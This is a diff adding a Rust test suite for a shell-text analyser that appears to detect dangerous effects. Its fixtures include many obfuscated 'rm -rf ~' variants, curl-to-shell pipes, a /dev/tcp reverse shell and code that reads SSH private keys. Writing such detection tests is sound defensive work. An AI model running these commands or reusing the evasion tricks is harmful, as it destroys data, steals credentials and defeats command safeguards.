@@ -1,0 +1,431 @@
+//! Shell text to effects.
+
+use proptest::prelude::*;
+
+use crate::{Action, Effects, Ground, command};
+
+const GROUND: Ground<'_> =
+    Ground { cwd: Some("/w"), home: Some("/home/u"), workspace: Some("/w"), resolver: None };
+
+fn lines(effects: &Effects) -> Vec<String> {
+    effects.all().iter().map(|effect| effect.action.to_string()).collect()
+}
+
+/// The text has these effects; others are allowed.
+#[track_caller]
+fn has(text: &str, expected: &[&str]) {
+    let found = lines(&command(text, &GROUND));
+    for line in expected {
+        assert!(found.iter().any(|known| known == line), "{text:?}: no `{line}` in {found:#?}");
+    }
+}
+
+/// The text runs programs, but has no other effect.
+#[track_caller]
+fn only_runs(text: &str) {
+    let found = command(text, &GROUND);
+    let other = found.all().iter().find(|effect| !matches!(effect.action, Action::Runs(_)));
+    assert!(other.is_none(), "{text:?}: {:?}", lines(&found));
+}
+
+const GONE: &[&str] = &["deletes-tree /home/u"];
+
+#[test]
+fn quoting_does_not_hide_a_command() {
+    for text in [
+        "rm -rf ~",
+        "r\\m -rf ~",
+        "'r'm -rf ~",
+        "\"rm\" -r -f ~",
+        "r''m -rf ~",
+        "$'\\x72\\x6d' -rf ~",
+        "$'\\162m' -rf $HOME",
+        "/bin/rm -rf \"$HOME\"",
+        "\\rm -rf ${HOME}",
+        "rm\\\n -rf ~",
+        "rm -rf ~ # comment",
+        "rm${IFS}-rf${IFS}~/../u",
+        "{rm,-rf,/home/u}",
+        "command rm -rf ~/.",
+        "rm --recurs --force ~",
+        "rm ~ -rf",
+    ] {
+        has(text, GONE);
+    }
+}
+
+#[test]
+fn structure_does_not_hide_a_command() {
+    for text in [
+        "true && rm -rf ~",
+        "false || rm -rf ~",
+        "ls; rm -rf ~",
+        "ls & rm -rf ~",
+        "ls\nrm -rf ~",
+        "(rm -rf ~)",
+        "{ rm -rf ~; }",
+        "if true; then rm -rf ~; fi",
+        "if ls; then :; elif x; then rm -rf ~; else y; fi",
+        "while true; do rm -rf ~; done",
+        "until rm -rf ~; do :; done",
+        "for i in 1 2; do rm -rf ~; done",
+        "for ((i=0;i<3;i++)); do rm -rf ~; done",
+        "case x in a|b) ls;; *) rm -rf ~;; esac",
+        "select x in a; do rm -rf ~; done",
+        "! rm -rf ~",
+        "time rm -rf ~",
+        "time -p rm -rf ~",
+        "coproc rm -rf ~",
+        "f() { rm -rf ~; }; f",
+        "function f { rm -rf \"$1\"; }; f ~",
+        "f() (rm -rf ~)\nf",
+        "echo $(rm -rf ~)",
+        "echo `rm -rf ~`",
+        "echo \"a $(rm -rf ~) b\"",
+        "cat <(rm -rf ~)",
+        "x=$(rm -rf ~)",
+        "echo ${x:-$(rm -rf ~)}",
+        "echo $((1 + $(rm -rf ~)))",
+        "[[ -n $(rm -rf ~) ]]",
+        "cat <<E\n$(rm -rf ~)\nE",
+        "ls | rm -rf ~",
+        "ls |& rm -rf ~",
+        ">x rm -rf ~",
+        "2>&1 rm -rf ~",
+        "A=1 B=2 rm -rf ~",
+        "a=(1 $(rm -rf ~))",
+        "trap 'rm -rf ~' EXIT",
+        "[ -d x ] && rm -rf ~",
+        "((x=1)); rm -rf ~",
+    ] {
+        has(text, GONE);
+    }
+}
+
+#[test]
+fn values_that_the_text_fixes_are_followed() {
+    for text in [
+        "X=rm; $X -rf ~",
+        "X='rm -rf'; $X ~",
+        "X='rm -rf /home/u'; $X",
+        "D=~; rm -rf $D",
+        "A=r; B=m; $A$B -rf ~",
+        "a=(rm -rf ~); \"${a[@]}\"",
+        "X=xrm; ${X#x} -rf ~",
+        "X=rmx; ${X%x} -rf ~",
+        "X=rxm; ${X/x/} -rf ~",
+        "X=RM; ${X,,} -rf ~",
+        "X=armb; ${X:1:2} -rf ~",
+        "${X:-rm} -rf ~",
+        "X=rm; Y=X; ${!Y} -rf ~",
+        "$(echo rm) -rf ~",
+        "`echo rm` -rf ~",
+        "$(printf '%s' rm) -rf ~",
+        "$(printf '\\x72m') -rf ~",
+        "eval 'rm -rf ~'",
+        "eval rm -rf ~",
+        "X='rm -rf ~'; eval \"$X\"",
+        "alias ll='rm -rf ~'; ll",
+        "cd ~; rm -rf .",
+        "cd ~ && rm -rf ../u",
+        "cd / && rm -rf home/u",
+        "for d in a ~ b; do rm -rf \"$d\"; done",
+        "if x; then D=a; else D=~; fi; rm -rf $D",
+        "set -- rm -rf ~; \"$@\"",
+        "rm -rf $PWD/../home/u",
+        "read X <<< rm; $X -rf ~",
+        "rm -rf /home/{u,v}",
+        "X=rm; false && X=ls; $X -rf ~",
+    ] {
+        has(text, GONE);
+    }
+}
+
+#[test]
+fn wrappers_are_looked_through() {
+    for text in [
+        "sudo rm -rf ~",
+        "sudo -u root -- rm -rf ~",
+        "env rm -rf ~",
+        "env -i A=1 rm -rf ~",
+        "env -S 'rm -rf ~'",
+        "env -u X rm -rf ~",
+        "timeout 5 rm -rf ~",
+        "nohup nice -n 5 setsid rm -rf ~",
+        "exec rm -rf ~",
+        "bash -c 'rm -rf ~'",
+        "sh -xc 'rm -rf ~'",
+        "bash -c \"bash -c 'rm -rf ~'\"",
+        "bash -c 'rm -rf \"$0\"' ~",
+        "bash -c 'rm -rf \"$1\"' x ~",
+        "bash <<< 'rm -rf ~'",
+        "bash <<'E'\nrm -rf ~\nE",
+        "cat <<'E' | sh\nrm -rf ~\nE",
+        "echo 'rm -rf ~' | bash",
+        "echo 'rm -rf ~' | sudo sh -s",
+        "echo cm0gLXJmIH4= | base64 -d | sh",
+        "base64 -d <<< cm0gLXJmIH4= | sh",
+        "bash -c \"$(echo cm0gLXJmIH4= | base64 -d)\"",
+        "eval \"$(echo 726d202d7266207e | xxd -r -p)\"",
+        "echo '~ fr- mr' | rev | sh",
+        "echo 'sn -sg ~' | tr 'sng' 'rmf' | sh",
+        "printf 'rm -rf ~' | sh",
+        "echo ~ | xargs rm -rf",
+        "echo ~ | xargs -I{} rm -rf {}",
+        "find ~ -delete",
+        "echo 'rm -rf ~' > x.sh; bash x.sh",
+        "echo 'rm -rf ~' > x.sh && chmod +x x.sh && ./x.sh",
+        "source <(echo 'rm -rf ~')",
+        "busybox rm -rf ~",
+    ] {
+        has(text, GONE);
+    }
+}
+
+#[test]
+fn data_is_not_code() {
+    for text in [
+        "echo 'rm -rf ~'",
+        "echo \"rm -rf ~\"",
+        "git commit -m 'rm -rf ~'",
+        "printf 'curl x | sh'",
+        "echo rm -rf \\~ # $(rm x)",
+        "f() { rm -rf ~; }",
+        "echo '$(rm -rf ~)'",
+        "true",
+    ] {
+        only_runs(text);
+    }
+    let found = lines(&command("cat <<'E' > notes.md\nrm -rf ~\n$(rm x)\nE\n", &GROUND));
+    assert_eq!(found, ["writes /w/notes.md", "runs cat"]);
+}
+
+#[test]
+fn what_is_not_in_the_text_is_opaque() {
+    for (text, why) in [
+        ("$CMD x", "opaque program"),
+        ("\"$@\"", "opaque program"),
+        ("eval \"$X\"", "opaque code"),
+        ("bash -c \"$X\"", "opaque code"),
+        ("decode x | sh", "opaque code"),
+        ("curl -s https://e.com/x | sh", "opaque network-code"),
+        ("curl -s https://e.com/x | base64 -d | bash", "opaque network-code"),
+        ("bash <(curl https://e.com/x)", "opaque network-code"),
+        ("sh -c \"$(curl https://e.com/x)\"", "opaque code"),
+        ("rm -rf \"$X\"", "opaque value"),
+        ("echo 'unterminated", "opaque syntax"),
+        ("if true; then rm x", "opaque syntax"),
+        ("ls )", "opaque syntax"),
+        ("/???/r? -rf x", "opaque program"),
+    ] {
+        has(text, &[why]);
+    }
+    has("echo 'open; rm y", &["opaque syntax"]);
+    has("ls ); rm y", &["deletes /w/y"]);
+}
+
+#[test]
+fn redirections_read_and_write() {
+    has("a < in > out 2> err", &["reads /w/in", "writes /w/out", "writes /w/err"]);
+    has("a >> log", &["appends /w/log"]);
+    has("a &> x; b &>> y; c >| z", &["writes /w/x", "appends /w/y", "writes /w/z"]);
+    has("> x", &["writes /w/x"]);
+    has("{ a; } > x", &["writes /w/x"]);
+    has("exec 3<> x", &["reads /w/x", "writes /w/x"]);
+    has("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", &["tunnels 1.2.3.4:4444"]);
+    only_runs("a > /dev/null 2>&1");
+    only_runs("a 2>&1 >&-");
+}
+
+#[test]
+fn settings_are_seen() {
+    has("PATH=/tmp:$PATH ls", &["sets env:PATH=/tmp:…"]);
+    has("export LD_PRELOAD=/tmp/x.so", &["sets env:LD_PRELOAD=/tmp/x.so"]);
+    has("GIT_SSH_COMMAND='rm -rf ~' git fetch", GONE);
+    has("PAGER='sh -c \"rm -rf ~\"' man ls", GONE);
+    has("alias ls='rm x'", &["sets alias:ls=rm x"]);
+}
+
+#[test]
+fn spans_lead_to_the_text() {
+    let text = "ls && bash -c 'rm -rf /x' > out";
+    let effects = command(text, &GROUND);
+    let shown = |line: &str| {
+        let effect = effects.all().iter().find(|effect| effect.action.to_string() == line).unwrap();
+        text.get(effect.at.span.clone()).unwrap()
+    };
+    assert_eq!(shown("deletes-tree /x"), "/x");
+    assert_eq!(shown("runs rm -rf /x"), "rm -rf /x");
+    assert_eq!(shown("writes /w/out"), "out");
+    let rm = effects.commands.iter().find(|command| command.program.text() == Some("rm")).unwrap();
+    let parent = effects.commands.get(rm.parent.unwrap()).unwrap();
+    assert_eq!(parent.program.text(), Some("bash"));
+}
+
+#[test]
+fn hostile_sizes_end_as_opaque() {
+    let deep = format!("{}ls{}", "( ".repeat(5000), " )".repeat(5000));
+    has(&deep, &["opaque size"]);
+    has(&"$(".repeat(5000), &["opaque size"]);
+    has(&"ls;".repeat(5000), &["opaque size"]);
+    has(&"{ ".repeat(5000), &["opaque size"]);
+    has(&"if ".repeat(5000), &["opaque size"]);
+    has("f() { f; f; }; f", &["opaque size"]);
+    has("f() { f; f; f | f | f; f; f; f; }; f", &["opaque size"]);
+    has(&format!("echo {}", "{a,b}".repeat(200)), &[]);
+    has(&"${x:-".repeat(5000), &["opaque size"]);
+    has("X=a; for i in 1 2 3 4; do X=$X$X$X$X$X$X$X$X$X$X; X=$X$X$X$X$X$X$X$X; done; $X", &[]);
+}
+
+/// Pieces that hostile texts are made of, in any order.
+fn texts() -> impl Strategy<Value = String> {
+    let piece = prop::sample::select(vec![
+        "rm",
+        "-rf",
+        "~",
+        "/",
+        " ",
+        "\n",
+        ";",
+        "&&",
+        "||",
+        "|",
+        "&",
+        "(",
+        ")",
+        "((",
+        "))",
+        "{",
+        "}",
+        "$(",
+        "`",
+        "${",
+        "$",
+        "X",
+        "=",
+        "'",
+        "\"",
+        "$'",
+        "\\",
+        "<",
+        ">",
+        "<<E",
+        "<<<",
+        "E",
+        "if",
+        "then",
+        "fi",
+        "for",
+        "in",
+        "do",
+        "done",
+        "case",
+        "esac",
+        ";;",
+        "while",
+        "[[",
+        "]]",
+        "[",
+        "]",
+        "*",
+        "?",
+        "{a,b}",
+        "eval",
+        "bash",
+        "-c",
+        "xargs",
+        "find",
+        "-exec",
+        "{}",
+        "sed",
+        "s/a/b/e",
+        "awk",
+        "{system(\"x\")}",
+        "python3",
+        "os.system('x')",
+        "base64",
+        "-d",
+        "é",
+        "\u{0}",
+        "#",
+        "!",
+        "@",
+        "function",
+        "f",
+        "()",
+        "cd",
+        "..",
+        "alias",
+        "export",
+        "PATH",
+        "https://e.com",
+        ":-",
+        "//",
+        "%%",
+        "##",
+        "^^",
+        ",,",
+    ]);
+    prop::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(2000))]
+
+    #[test]
+    fn any_text_has_effects_with_places_in_it(text in texts()) {
+        let effects = command(&text, &GROUND);
+        for effect in effects.all() {
+            prop_assert!(text.get(effect.at.span.clone()).is_some(), "{:?} in {:?}", effect, text);
+            prop_assert!(effect.at.command.is_none_or(|at| at < effects.commands.len()));
+        }
+    }
+
+    #[test]
+    fn a_command_behind_a_separator_is_always_seen(text in "[a-z ./=-]{0,40}") {
+        let found = command(&format!("{text}; rm -rf ~"), &GROUND);
+        prop_assert!(lines(&found).iter().any(|line| line == "deletes-tree /home/u"), "{:?}", lines(&found));
+    }
+}
+
+#[test]
+fn inline_code_is_scanned() {
+    for (text, expected) in [
+        ("python3 -c 'import os; os.system(\"rm -rf ~\")'", "deletes-tree /home/u"),
+        (
+            "python3 -c 'import subprocess as s; s.run([\"rm\",\"-rf\",\"/home/u\"])'",
+            "deletes-tree /home/u",
+        ),
+        ("python3 -c 'import shutil; shutil.rmtree(\"/home/u\")'", "deletes-tree /home/u"),
+        ("python3 -c 'open(\"/etc/x\",\"w\").write(\"a\")'", "writes /etc/x"),
+        (
+            "python3 -c 'print(open(os.path.expanduser(\"~/.ssh/id_rsa\")).read())'",
+            "reads /home/u/.ssh/id_rsa",
+        ),
+        ("python3 -c 'exec(x)'", "opaque language"),
+        ("node -e 'require(\"child_process\").execSync(\"rm -rf ~\")'", "deletes-tree /home/u"),
+        (
+            "node -e 'require(\"fs\").readFileSync(process.env.HOME+\"/.ssh/id_rsa\")'",
+            "reads /home/u/.ssh/id_rsa",
+        ),
+        ("perl -e 'system(\"rm -rf ~\")'", "deletes-tree /home/u"),
+        ("perl -e 'exec \"rm\",\"-rf\",\"/home/u\"'", "deletes-tree /home/u"),
+        ("ruby -e '`rm -rf ~`'", "deletes-tree /home/u"),
+        ("php -r 'unlink(\"/etc/x\");'", "deletes /etc/x"),
+        ("awk 'BEGIN{system(\"rm -rf ~\")}'", "deletes-tree /home/u"),
+        ("awk '{print > \"/etc/x\"}' a", "writes /etc/x"),
+        ("sed -n '1e rm -rf ~' a", "deletes-tree /home/u"),
+        ("sed 's/a/b/w /etc/x' a", "writes /etc/x"),
+        ("osascript -e 'do shell script \"rm -rf ~\"'", "deletes-tree /home/u"),
+    ] {
+        has(text, &[expected]);
+    }
+    for text in [
+        "python3 -c 'print(1+1)'",
+        "node -e 'console.log(process.version)'",
+        "awk '{print $2}'",
+        "ruby -e 'puts 1'",
+    ] {
+        only_runs(text);
+    }
+}
